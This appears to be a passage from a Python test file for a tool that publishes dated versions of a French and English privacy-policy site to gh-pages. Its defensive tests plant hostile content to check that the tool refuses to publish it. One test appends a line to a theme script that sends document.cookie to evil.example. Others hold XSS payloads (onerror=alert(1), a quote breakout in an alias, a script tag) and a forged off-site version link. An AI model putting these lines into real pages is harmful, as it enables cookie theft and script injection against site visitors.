            page.write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{mf.sha256(text)}\n"
                            f"size {len(text)}\n", encoding="utf-8")
    commit = project.commit_all("the policy")
    result = project.run("history")
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr == {
        "link": f"error: nothing to publish: docs/fr/index.md is a symbolic link at {commit[:7]}: the build reads files "
                "as git stores them and never follows links: commit the files themselves\n",
        "linked folder": f"error: nothing to publish: docs/fr is a symbolic link at {commit[:7]}: the build reads files "
                         "as git stores them and never follows links: commit the files themselves\n",
        "LFS pointer": f"error: nothing to publish: docs/fr/index.md at {commit[:7]} is a Git LFS pointer, not the "
                       "text (a `filter=lfs` line of .gitattributes: git keeps the text outside the repository, and "
                       "publishing reads what git stores); take the policy out of LFS (`git lfs untrack`, `git add "
                       "--renormalize docs`) and commit the text itself\n"}[kind]
    if kind == "LFS pointer":  # publish said "no valid date in the front matter (date: YYYY-MM-DD)"
        assert project.run("publish").stderr == result.stderr
    assert project.branch() is None


def test_a_published_page_saved_again_in_latin_1_under_its_date_is_said_not_a_crash(published):
    """History 28: the published page re-saved in Latin-1 (an editor's default) and committed under its date:
    `policy history` stopped with "error: 'utf-8' codec can't decode byte 0xe9 in position 55: invalid continuation
    byte" (exit 2), naming no commit nor file. The version is kept as published and the warning names the commit and
    the byte, as for any edit under a published date."""
    page = published.root / "docs" / "fr" / "index.md"
    page.write_bytes(page.read_text(encoding="utf-8").encode("latin-1"))
    edited = published.commit_all("saved in Latin-1")
    outcome = published.history()
    assert outcome.published == [] and outcome.refused == []
    byte = page.read_bytes().index("é".encode("latin-1"))
    assert [str(w) for w in outcome.warnings] == [
        f"2021-02-17: the published text differs from the last commit carrying this date, {edited[:7]} (French: not UTF-8 "
        f"(byte {byte})); a published version never changes: kept as published"]


def test_a_commit_that_made_the_policy_a_link_is_said_a_link_not_undated(project):
    """History 28: as a removal, a commit making the page a symbolic link (to a shared folder), then undone, was said to
    have "no date that can be read (date: YYYY-MM-DD)", which no date written there would have changed."""
    from policysite import history as hist
    from policysite.project import opened

    project.commit("2024-01-15")
    shared = project.root / "shared"
    shared.mkdir()
    for lang in ("fr", "en"):
        page = project.root / "docs" / lang / "index.md"
        page.rename(shared / f"{lang}.md")
        page.symlink_to(f"../../shared/{lang}.md")
    linked = project.commit_all("the pages in a shared folder")
    for lang in ("fr", "en"):
        (project.root / "docs" / lang / "index.md").unlink()
    project.commit("2024-03-01", fr="Deuxième texte.", en="Second text.")
    with opened(project.root) as site:
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
    assert [v.version for v in found.versions] == ["2024-01-15", "2024-03-01"]
    # (said once, by the publication of the version after it: histories14)
    assert found.warnings == [] and found.said_by_publishing(["2024-01-15"]) == []
    assert found.said_by_publishing(["2024-03-01"]) == [
        f"{linked[:7]}: docs/fr/index.md a symbolic link (publishing reads no link), so it is no version: the site "
        "keeps the version before it in force until the next"]


def test_an_earlier_repository_merged_in_with_unrelated_histories_has_its_older_texts_named_before_publishing(project,
                                                                                                           tmp_path):
    """History 28: a site adopting its policy's earlier repository by `git merge --allow-unrelated-histories`: the
    merge's second parent holds the texts of 2021 and 2022; `policy history` published 2022-03-01 alone, said nothing of
    2021-01-01, and once published the older text never could be. It is refused, naming the merge and the commit, until
    that history is made the branch's own or the commit recorded as never published; a merge of an unrelated history
    whose page the merge did not take (a subtree, a theme) is no part of it."""
    from policy_repo import en_page, fr_page
    from policysite import history as hist
    from policysite.project import opened

    (project.root / "README.md").write_text("The site.\n", encoding="utf-8")
    project.commit_all("the site")
    old = tmp_path / "old"
    for lang in ("fr", "en"):
        (old / "docs" / lang).mkdir(parents=True)
    git(old, "init", "-q", "-b", "main")
    for date, words in (("2021-01-01", None), ("2022-03-01", "Deuxième texte.")):
        (old / "docs" / "fr" / "index.md").write_text(fr_page(date, words) if words else fr_page(date), encoding="utf-8")
        (old / "docs" / "en" / "index.md").write_text(en_page(date, "Second text.") if words else en_page(date),
                                                      encoding="utf-8")
        git(old, "add", "-A")
        git(old, "commit", "-q", "-m", date, date=f"{date}T10:00:00+00:00")
    first = git(old, "rev-parse", "HEAD~1").strip()
    git(project.root, "fetch", "-q", str(old), "main:old")
    git(project.root, "merge", "-q", "--allow-unrelated-histories", "old", "-m", "adopt the earlier repository")
    merge = git(project.root, "rev-parse", "HEAD").strip()
    with opened(project.root) as site:
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
        assert [v.version for v in found.versions] == ["2022-03-01"]
        assert found.unrelated == [(merge, first, dt.date(2021, 1, 1))]
        assert hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths,
                                  skip=frozenset({first})).unrelated == []
    outcome = project.history()
    assert outcome.published == [] and project.branch() is None
    # (the synthetic earlier repository has no translation record: its 2022-03-01 is refused for that, too)
    [refusal] = [one for one in outcome.refused if one.findings[0].rule == "history.merged"]
    assert (refusal.version, refusal.commit) == ("2021-01-01", first)
    assert refusal.findings[0].rule == "history.merged" and str(refusal.findings[0].message).startswith(
        f"the text of {first[:7]}, in the history the merge {merge[:7]} brought in with no commit in common with this "
        "branch's (an earlier repository of the policy, merged with --allow-unrelated-histories), is dated before the "
        "newest version")


def test_a_translation_removed_while_its_version_s_date_stayed_is_refused_not_published_without_it(project):
    """History 28: the English page removed by a commit that left the French date as it was, then a later version with
    both: `policy history` published 2021-01-01 in French alone, saying "a translation that starts with a later
    version", while the version's own commits had it, and the archive could never hold it after. Refused, naming the
    commit that removed it; recorded as never published, the version is published from the commit before, page and
    all."""
    project.commit("2021-01-01")
    (project.root / "docs" / "en" / "index.md").unlink()
    (project.root / "docs" / "en" / ".translated-from.yml").unlink()
    removal = project.commit_all("the English page removed")
    project.commit("2021-06-01", fr="Nous traitons vos données avec grand soin.", en="We process your data with great care.")
    outcome = project.history()
    assert outcome.published == [] and project.branch() is None
    [refusal] = outcome.refused
    assert (refusal.version, refusal.commit) == ("2021-01-01", removal)
    assert [(f.path, f.rule) for f in refusal.findings] == [("docs/en/index.md", "source.missing")]
    assert str(refusal.findings[0].message).startswith(f"removed by {removal[:7]} while the version's date was "
                                                       "unchanged")
    (project.root / "unpublished.yml").write_text(f"- commit: {removal[:7]}\n  reason: removed by mistake\n",
                                                  encoding="utf-8")
    project.commit_all("the removal recorded")
    assert project.history().published == ["2021-01-01", "2021-06-01"]
    assert "en/2021-01-01/index.html" in project.files()


@pytest.mark.parametrize("subject", ["Edit by hand", "Publish 2021-02-17 (en, fr) from 0123456789ab"])
def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published, subject):
    """Safety hunt 48: a script of the shared theme folder (assets/<digest>/javascripts/…) given other bytes by hand,
    its folder's list left as it was, was carried by the next `policy publish`, exit 0 (`carried` reads names and the
    list's digest; only `policy verify` compared the bytes). Safety hunt 49: so was it by a hand commit named as a
    publication ('Publish 2021-02-17 (…'), a shared file being publishing's when a commit so named wrote it; the
    folder is named after its list's digest, and its files are now read against that list whoever wrote them.
    Refused by `policy publish` and `policy history`, naming the file and the commit."""
    project = published
    script: list[str] = []

    def hand_edit(work):
        script.append(_shared_script(work))
        with open(work / script[0], "a", encoding="utf-8") as out:
            out.write("\nfetch('https://evil.example/?' + document.cookie);\n")

    _on_branch(project, hand_edit, subject)
    edited = project.branch()
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    for command in ("publish", "history"):
        result = project.run(command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"error: {script[0]}: changed (" in result.stderr and "by commit " in result.stderr, result.stderr
        assert f"('{subject}')" in result.stderr and "not as published" in result.stderr
        assert "Traceback" not in result.stderr and project.branch() == edited


def test_a_hand_edit_of_the_newest_versions_manifest_reverted_since_does_not_block_publishing(both_published):
    """A manifest and page the newest publication wrote, edited by hand then reverted by hand: the branch is as
    published, and the next version is published (the commit that last touched them is the hand revert, none of
    publishing's: what counts is that publishing wrote the blobs the branch holds)."""
    project = both_published
    path, manifest = "en/2022-03-01/index.html", "manifest/2022-03-01.json"

    def hand_edit(work):
        _script_with_its_digest(work, path, manifest)

    _on_branch(project, hand_edit)
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    result = project.run("publish")
    assert result.returncode == 1 and f"error: {manifest}: written by commit " in result.stderr, result.stderr
    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."))
    result = project.run("publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "en/2023-01-01/index.html" in project.files() and "alert(1)" not in project.show(path)


@pytest.mark.parametrize("window", ["Update the history, compare and feed pages of 2 dated versions",
                                    "Publish 2022-03-01 (en, fr) from 0123456789ab", "Edit by hand"])
def test_a_forged_rebuild_hidden_behind_a_forged_publishing_commit_is_not_carried(both_published, tmp_path, window):
    """Safety hunt 50 (session 29's open hole): a script put into en/2021-02-17/index.html with its digest set in the
    manifest by a commit named 'Rebuild 2021-02-17 (…', then a one-byte edit of the history page in a second commit
    named as publishing's, moved the window the checks read past the first commit: `policy publish`, `policy history`
    and `policy export` carried the script, exit 0 (only `policy verify` named it). Whatever the subjects, every page
    a command carries now goes through the output check: each refuses, naming the page, nothing written; `policy
    history --rebuild`, which writes that version anew, publishes without the script."""
    project = both_published
    path, manifest = "en/2021-02-17/index.html", "manifest/2021-02-17.json"
    _on_branch(project, lambda work: _script_with_its_digest(work, path, manifest),
               "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    _on_branch(project, lambda work: (work / "fr/history/index.html").write_bytes(
        (work / "fr/history/index.html").read_bytes() + b"\n"), window)
    edited = project.branch()
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    for command in (("publish",), ("history",), ("export", "--site-dir", str(tmp_path / "public"))):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"{path}: refused by the output check: <script>" in result.stderr, result.stderr
        assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr, result.stderr
        assert project.branch() == edited
    assert not (tmp_path / "public").exists()
    result = project.run("history", "--rebuild")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "<script>alert(1)</script>" not in project.show(path)
    assert "en/2023-01-01/index.html" in project.files()


def test_a_page_made_executable_by_hand_is_not_carried_by_publish_or_export(published, tmp_path):
    """Safety hunt 50, finding 3: en/2021-02-17/index.html given mode 100755 in a hand commit (its bytes as published)
    was carried by `policy publish` and written executable (0755) into public/ by `policy export`, exit 0; only `policy
    verify` named it, and a web server may run such a file (Apache's XBitHack reads an executable page's server-side
    includes). Both now refuse, naming the file, the branch and the export folder left as they were."""
    project = published
    path = "en/2021-02-17/index.html"
    _on_branch(project, lambda work: (work / path).chmod(0o755))
    edited = project.branch()
    assert git(project.root, "ls-tree", "gh-pages", path).startswith("100755 ")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    for command in (("publish",), ("export", "--site-dir", str(tmp_path / "public"))):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert result.stderr.startswith(f"error: {path}: executable (mode 100755), which publishing never writes"), \
            result.stderr
        assert "Traceback" not in result.stderr and project.branch() == edited
    assert not (tmp_path / "public").exists()


@pytest.mark.parametrize("subject", ["Update the history, compare and feed pages of 1 dated version", "Edit by hand"])
def test_export_refuses_a_list_of_versions_edited_whatever_the_commits_subject(published, tmp_path, subject):
    """Safety hunt 50, finding 4: en/versions.json and versions-recent.json given an entry '//evil.example/en' (which
    the version menu offers as a version of the site), a title holding HTML and an alias holding quotes, in a commit
    named as publishing's, were served by `policy export`, exit 0 (only a commit of another subject was named). Each
    list must now be what publishing writes from the publication records: refused, naming both files, nothing written."""
    project = published

    def forged(work):
        for name in ("versions.json", "versions-recent.json"):
            entries = json.loads((work / "en" / name).read_text(encoding="utf-8"))
            entries.insert(0, {"version": "//evil.example/en", "title": "<img src=x onerror=alert(1)> 1 March 2023",
                               "aliases": ['latest" onmouseover="alert(1)'], "properties": {}})
            (work / "en" / name).write_text(json.dumps(entries), encoding="utf-8")

    assert project.run("export", "--site-dir", str(tmp_path / "before")).returncode == 0  # publishing's own lists
    _on_branch(project, forged, subject)
    result = project.run("export", "--site-dir", str(tmp_path / "public"))
    assert result.returncode == 1, result.stdout + result.stderr
    assert "en/versions.json: not the list of versions publishing writes from the publication records" in result.stderr \
        and "en/versions-recent.json: not the list" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "public").exists()


def test_export_serves_the_archive_latest_and_root_pages_only_as_publishing_writes_them(published, tmp_path):
    """Safety8, session 37: words edited into the pages beside the versions by a commit named as publishing's (the
    policy text of fr/latest/, the history page's <title>, the language root's and the site root's, the 404 page's,
    an entry added to the feed) were served by `policy export`, exit 0: the output check reads what a page runs and
    loads, not the theme's words, and the commit's subject vouched for the rest. Each is now read against what
    publishing writes (latest/ a copy of a version as published; the archive's and root files built from the
    manifests, unless this machine wrote those very bytes there): every one named, nothing written. A fresh clone's
    machine, which wrote none of them, builds them and exports the branch as published."""
    project = published
    public = tmp_path / "public"
    title = re.compile(r"<title>.*?</title>")
    edits = {"fr/latest/index.html": lambda page: page.replace("Nous traitons vos données avec soin.",
                                                                "Nous vendons vos données."),
             "fr/feed.xml": lambda feed: feed.replace("</feed>", "<entry><title>Nous vendons vos données</title>"
                                                                 "</entry></feed>"),
             **{path: lambda page: title.sub("<title>Nous vendons vos données</title>", page, count=1)
                for path in ("fr/history/index.html", "fr/index.html", "index.html", "404.html")}}

    def forged(*paths):
        def edit_them(work):
            for path in paths:
                before = (work / path).read_text(encoding="utf-8")
                assert edits[path](before) != before, path
                (work / path).write_text(edits[path](before), encoding="utf-8")
        return edit_them

    subject = "Update the history, compare and feed pages of 1 dated version"
    _on_branch(project, forged(*(path for path in edits if "latest" not in path)), subject)
    result = project.run("export", "--site-dir", str(public))
    assert result.returncode == 1, result.stdout + result.stderr
    for path in ("fr/feed.xml", "fr/history/index.html", "fr/index.html", "404.html"):
        assert f"{path}: differs from the archive's pages the publication records give" in result.stderr, (path, result.stderr)
    assert "index.html: is not the redirect publishing writes (to fr/latest/)" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not public.exists()
    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."), subject)
    _on_branch(project, forged("fr/latest/index.html"), subject)
    result = project.run("export", "--site-dir", str(public))
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr.startswith("error: fr/latest/index.html: changed, where fr/latest/ is a copy of "
                                    "fr/2021-02-17/ as published"), result.stderr
    assert "Traceback" not in result.stderr and not public.exists()
    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."), subject)
    shutil.rmtree(project.root / ".git" / "policysite")  # a machine that wrote none of these pages
    result = project.run("export", "--site-dir", str(public))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Nous vendons" not in (public / "fr/history/index.html").read_text(encoding="utf-8")


def test_the_branch_reset_to_before_a_publication_is_refused_naming_the_version_its_reflog_held(both_published):
    """histories6: gh-pages reset (a force-push fetched, `git branch -f`) to before 2022-03-01's publication keeps no
    trace of it on the branch: no commit deleted its manifest, and `policy publish` published it again as new, "first
    published today". The branch's former tip, in this clone's reflog, held it: publish refuses, naming the version,
    that commit and the way back, and verify names it too; put back, the branch publishes and verifies."""
    project = both_published
    published = git(project.root, "rev-parse", "gh-pages").strip()
    first = git(project.root, "log", "--format=%H", "--diff-filter=A", "gh-pages", "--",
                "manifest/2021-02-17.json").split()[-1]
    git(project.root, "branch", "-f", "gh-pages", first)
    said = {lang: policy_process(["--root", str(project.root), "publish"], env={**os.environ, messages.ENVIRONMENT: lang})
            for lang in ("en", "fr")}
    assert said["en"].returncode == 1 and "Traceback" not in said["en"].stderr, said["en"].stderr
    assert (f"error: 2022-03-01 was on gh-pages at commit {published[:7]} (this clone's reflog of refs/heads/gh-pages) "
            "and is not on it now: gh-pages was reset or force-pushed to before a publication; a published version "
            f"stays: put the branch back (`git branch -f gh-pages {published[:7]}`, then push it), or, if that commit "
            "never reached the site (a publication undone before it was pushed), forget it (`git reflog expire "
            "--expire-unreachable=now --all`). Nothing was published.") in said["en"].stderr, said["en"].stderr
    assert (f"2022-03-01 était sur gh-pages au commit {published[:7]} (journal des références de refs/heads/gh-pages "
            "dans ce clone) et n'y est plus\u00a0: gh-pages a été ramenée") in said["fr"].stderr, said["fr"].stderr
    assert git(project.root, "rev-parse", "gh-pages").strip() == first
    report = verify.verify(root=project.root)  # (said once, with the tip that held it, as publishing says it)
    assert [problem.partition(" (")[0] for problem in report.problems] == [
        f"2022-03-01: was on gh-pages at commit {published[:7]}"], report.problems
    git(project.root, "branch", "-f", "gh-pages", published)
    assert verify.verify(root=project.root).problems == []
    assert project.run("publish").returncode == 0


def test_a_reflog_read_once_is_read_again_only_from_its_new_entries_and_a_reset_since_is_still_found(both_published):
    """histories7: every publish, history and verify read the branch's whole reflog and asked git about each of its
    tips (10,000 entries in a long-lived clone: bench/README.md). Entries an earlier run found in the branch's history
    are not handed out again while that run's tip is still in the branch's history; a reset after them, or a reflog
    whose older entries changed, is read whole."""
    project = both_published
    repo = policy_git.open_repo(project.root)
    published = git(project.root, "rev-parse", "gh-pages").strip()
    first = git(project.root, "rev-parse", "gh-pages~1").strip()
    ref = "refs/heads/gh-pages"
    logged = len(git(project.root, "reflog", "show", "--format=%H", ref, "--").split())
    assert logged >= 2
    (project.root / ".git" / "policysite" / reflogs.FILE).unlink(missing_ok=True)  # (kept by the fixture's publish)
    assert len(reflogs.read(repo, ref, published).unproven()) == logged  # never read: all of them
    assert branch.rewound_versions(repo, "gh-pages", "gh-pages") == {}
    assert reflogs.read(repo, ref, published).unproven() == []
    assert len(reflogs.read(repo, ref, published, "manifest/terms").unproven()) == logged  # another document's: not
    git(project.root, "commit", "-q", "--allow-empty", "-m", "x")  # (main's reflog: not the branch's)
    assert reflogs.read(repo, ref, published).unproven() == []
    git(project.root, "branch", "-f", "gh-pages", first)  # the reset: published no longer in the branch's history
    assert len(reflogs.read(repo, ref, first).unproven()) == logged + 1
    assert branch.rewound_versions(repo, "gh-pages", "gh-pages") == {"2022-03-01": (published, ref)}
    git(project.root, "branch", "-f", "gh-pages", published)
    assert branch.rewound_versions(repo, "gh-pages", "gh-pages") == {}
    assert reflogs.read(repo, ref, published).unproven() == []
    log = project.root / ".git" / "logs" / "refs" / "heads" / "gh-pages"
    lines = log.read_text(encoding="utf-8").splitlines(keepends=True)
    log.write_text("".join(lines[1:]), encoding="utf-8")  # its oldest entry expired: what was proven is not known
    assert len(reflogs.read(repo, ref, published).unproven()) == len(lines) - 1


def _origin_at(project: Project, tip: str) -> None:
    """A bare origin beside the project whose gh-pages is `tip`, fetched: the remote-tracking branch's reflog starts
    there."""
    remote = project.root.parent / "origin.git"
    git(project.root.parent, "init", "-q", "--bare", "-b", "main", str(remote))
    git(project.root, "remote", "add", "origin", str(remote))
    git(project.root, "push", "-q", "origin", "main", f"{tip}:refs/heads/gh-pages")
    git(project.root, "fetch", "-q", "origin")


def test_gh_pages_force_pushed_to_before_a_publication_is_refused_by_the_remote_tracking_branch_s_reflog(
        both_published):
    """histories6: origin's gh-pages force-pushed back to before 2022-03-01 (by another clone), fetched here and the
    local branch set to it as `push.moved` says: the remote-tracking branch's reflog held 2022-03-01's tip."""
    project = both_published
    published = git(project.root, "rev-parse", "gh-pages").strip()
    first = git(project.root, "rev-parse", "gh-pages~1").strip()
    _origin_at(project, published)
    git(project.root.parent / "origin.git", "update-ref", "refs/heads/gh-pages", first)  # the force-push
    git(project.root, "fetch", "-q", "origin")
    git(project.root, "branch", "-f", "gh-pages", "origin/gh-pages")
    done = project.run("publish")
    assert done.returncode == 1 and (
        f"2022-03-01 was on gh-pages at commit {published[:7]} (this clone's reflog of refs/remotes/origin/gh-pages)"
    ) in done.stderr, done.stderr


def test_gh_pages_force_pushed_to_before_a_publication_is_refused_in_a_fresh_clone_by_the_tag_pushed_with_it(
        both_published, tmp_path):
    """histories7: in a fresh clone (CI's), with no reflog from before the force-push, 2022-03-01 was published again as
    new with only "first published today". Each version's tag (refs/tags/policy/gh-pages/<date>), pushed with the
    branch, is not moved by a force-push of it: publish refuses, naming the tag."""
    project = both_published
    published = git(project.root, "rev-parse", "gh-pages").strip()
    first = git(project.root, "rev-parse", "gh-pages~1").strip()
    _origin_at(project, published)
    assert project.run("publish", "--push").returncode == 0  # nothing new: the tags of both versions pushed
    origin = tmp_path / "origin.git"
    assert git(origin, "for-each-ref", "--format=%(refname) %(objectname)", "refs/tags/") == (
        f"refs/tags/policy/gh-pages/2021-02-17 {published}\nrefs/tags/policy/gh-pages/2022-03-01 {published}\n")
    git(origin, "update-ref", "refs/heads/gh-pages", first)  # the force-push, from another clone
    fresh = Project(tmp_path / "fresh")
    git(tmp_path, "clone", "-q", f"file://{origin}", str(fresh.root))
    said = {lang: policy_process(["--root", str(fresh.root), "publish", "--push"],
                                 env={**os.environ, messages.ENVIRONMENT: lang}) for lang in ("en", "fr")}
    assert said["en"].returncode == 1 and "Traceback" not in said["en"].stderr, said["en"].stderr
    assert (f"error: 2022-03-01 was on gh-pages at commit {published[:7]} (its tag policy/gh-pages/2022-03-01, pushed "
            "with it) and is not on it now: gh-pages was reset or force-pushed to before a publication") \
        in said["en"].stderr, said["en"].stderr
    # forgotten by deleting the tag that proves it (the reflog's advice alone left the tag standing)
    assert said["en"].stderr.rstrip().endswith(
        "forget it (`git tag -d policy/gh-pages/2022-03-01`). Nothing was published."), said["en"].stderr
    assert (f"error: 2022-03-01 était sur gh-pages au commit {published[:7]} (son tag policy/gh-pages/2022-03-01, "
            "poussé avec elle) et n'y est plus\u00a0: gh-pages a été ramenée") in said["fr"].stderr, said["fr"].stderr
    assert git(origin, "rev-parse", "gh-pages").strip() == first  # nothing published
    report = verify.verify(root=fresh.root)  # (said once, with the tip its tag names, as publishing says it)
    assert [problem.partition(" (its tag")[0] for problem in report.problems] == [
        f"2022-03-01: was on gh-pages at commit {published[:7]}"], report.problems


def test_a_local_publication_never_pushed_then_dropped_for_the_remote_s_branch_is_no_refusal(both_published):
    """The way out `push.moved` gives (the local branch set to origin's, which never held the local publication) is no
    reset of the site: only a tip the remote held proves a publication; 2022-03-01 is published again onto origin's."""
    project = both_published
    first = git(project.root, "rev-parse", "gh-pages~1").strip()
    _origin_at(project, first)
    git(project.root, "branch", "-f", "gh-pages", "origin/gh-pages")
    done = project.run("publish")
    assert done.returncode == 0 and "was reset or force-pushed" not in done.stderr, done.stderr
    assert "2022-03-01 is first published today" in done.stderr, done.stderr
